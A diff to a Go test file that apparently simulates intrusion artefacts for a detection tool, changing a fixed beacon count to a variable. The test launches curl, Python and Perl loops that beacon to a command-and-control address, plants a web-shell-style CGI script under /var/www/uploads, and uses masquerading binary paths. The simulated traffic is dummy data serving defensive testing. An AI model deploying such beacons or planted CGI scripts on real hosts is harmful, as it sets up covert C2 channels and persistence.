@@ -45,12 +45,12 @@ func startImplants(t *testing.T, s shell.Querier) []implant {
 	clock.Path = copied
 	launch(t, "", clock)
 
-	launch(t, "", exec.Command(bash, "-c", fmt.Sprintf("for beat in $(seq 100); do curl -s -o /dev/null http://%s/; sleep 1; done", publicAddress)))
+	launch(t, "", exec.Command(bash, "-c", fmt.Sprintf("for beat in $(seq %d); do curl -s -o /dev/null http://%s/; sleep 1; done", beats, publicAddress)))
 
 	launch(t, "nobody", exec.Command(python, "-c", fmt.Sprintf(`import socket, time
-for beat in range(100):
+for beat in range(%d):
     with socket.create_connection((%q, %d)) as c: c.sendall(b"x" * 120)
-    time.sleep(1)`, publicAddress, c2Port)))
+    time.sleep(1)`, beats, publicAddress, c2Port)))
 
 	renamed, removed, alike := "/usr/local/sbin/atop-helper", "/usr/local/sbin/log-rotator", "/opt/kubernetes/kubelet"
 	for _, path := range []string{renamed, removed, alike} {
@@ -86,7 +86,7 @@ const simulateSender = "simulate-sender"
 func beat(t *testing.T, cmd *exec.Cmd) {
 	t.Helper()
 	part, err := json.Marshal(simulate.SenderConfig{Shape: simulate.Beat, Network: "tcp", Address: at(publicAddress, c2Port),
-		Interval: time.Second, Size: 151, Count: 100, Reconnect: true, For: lifetime})
+		Interval: time.Second, Size: 151, Count: beats, Reconnect: true, For: lifetime})
 	require.NoError(t, err)
 	cmd.Stdin = strings.NewReader(string(part))
 	launch(t, "", cmd)
@@ -115,7 +115,7 @@ func webShell(t *testing.T) string {
 	root := "/var/www/uploads"
 	require.NoError(t, os.MkdirAll(root, 0o755))
 	shell := fmt.Sprintf("#!/bin/dash\nprintf 'Content-Type: text/plain\\n\\n'\nexec /usr/bin/perl -MIO::Socket::INET -e '"+
-		`for (1..100) { my $c = IO::Socket::INET->new("%s:%d"); print $c "x" x 90; close $c; sleep 1 }`+"'\n", publicAddress, c2Port)
+		`for (1..%d) { my $c = IO::Socket::INET->new("%s:%d"); print $c "x" x 90; close $c; sleep 1 }`+"'\n", beats, publicAddress, c2Port)
 	require.NoError(t, os.WriteFile(filepath.Join(root, "status.cgi"), []byte(shell), 0o755))
 	uid := credential(t, "www-data")
 	require.NoError(t, os.Chown(filepath.Join(root, "status.cgi"), int(uid.Uid), int(uid.Gid)))
